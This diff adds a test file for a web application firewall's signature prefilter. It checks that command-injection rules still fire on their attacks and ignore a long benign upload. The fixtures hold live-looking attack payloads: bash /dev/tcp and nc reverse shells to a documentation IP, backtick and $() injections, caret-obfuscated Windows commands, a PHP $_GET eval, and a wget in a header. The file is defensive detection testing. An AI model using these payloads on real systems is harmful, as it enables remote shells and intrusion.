@@ -1,0 +1,59 @@
+/**
+ * The bundled pcre-only rules that ran their regex on every request (no literal the prefilter could
+ * use: a backtick, a caret, `$_GET[` in every encoding, a separator and a command) now sit in the
+ * prefilter: each is a candidate only when one of its necessary literals occurs, still fires on its
+ * attack, and is not even a candidate on long benign prose (the load bench's 4 KB multipart note).
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
+import { compileRules, type CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
+import type { Rule } from '../../src/signatures/rule.js';
+import type { RequestSpec } from './fixtures.js';
+import { buildInspection } from './fixtures.js';
+import { BROWSER, BUNDLED_RULES, form, header, json, q } from './bundled-requests.js';
+
+const NOTE = 'Day 3: rain in the morning, sun after lunch; walked 18 km along the ridge to the hut.\n'.repeat(48);
+const B = 'nb7MA4YWxkTrZu0gW';
+const upload: RequestSpec = {
+  method: 'POST',
+  url: '/upload',
+  headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${B}`]],
+  body: `--${B}\r\nContent-Disposition: form-data; name="title"\r\n\r\nTrip notes\r\n--${B}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n${NOTE}\r\n--${B}--\r\n`,
+};
+
+// [sid, attack, quiet on the multipart note: not even a candidate]
+const CASES: Array<[number, RequestSpec, boolean]> = [
+  [9000317, q('name=x%60id%60'), true],
+  [9000317, json('{"host":"a$(whoami)"}'), true],
+  [9000309, q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), true],
+  [9000330, form('next=%0asys%5Et%5Eeminfo'), true],
+  [9001315, form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), true],
+  [9000315, json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), true],
+  [9000315, q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), true],
+  [9000314, header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), false],
+  [9000314, json('{"host":"127.0.0.1;sh -c id"}'), false],
+];
+
+let rules: Rule[];
+beforeAll(async () => {
+  rules = (await loadRuleSet([BUNDLED_RULES])).rules;
+});
+const gateOf = (sid: number): CompiledSignatureGate => compileRules(rules.filter((r) => r.sid === sid));
+
+describe('bundled pcre-only rules in the prefilter', () => {
+  it.each(CASES)('%i has a prefilter entry and still fires on its attack (%#)', (sid, attack) => {
+    const gate = gateOf(sid);
+    expect(gate.stats.rules).toBe(1);
+    expect(gate.stats.alwaysEvaluated).toBe(0);
+    expect(gate.evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => h.sid)).toEqual([sid]);
+  });
+
+  it.each(CASES.filter(([, , quiet]) => quiet))('%i is not a candidate on a 4 KB multipart note of prose (%#)', (sid) => {
+    expect(gateOf(sid).evaluate(buildInspection(upload)).candidates).toBe(0);
+  });
+
+  it('leaves at most a handful of the bundled rules evaluated on every request', async () => {
+    const gate = (await loadRuleSet([BUNDLED_RULES])).gate;
+    expect(gate.stats.alwaysEvaluated).toBeLessThanOrEqual(3);
+  });
+});
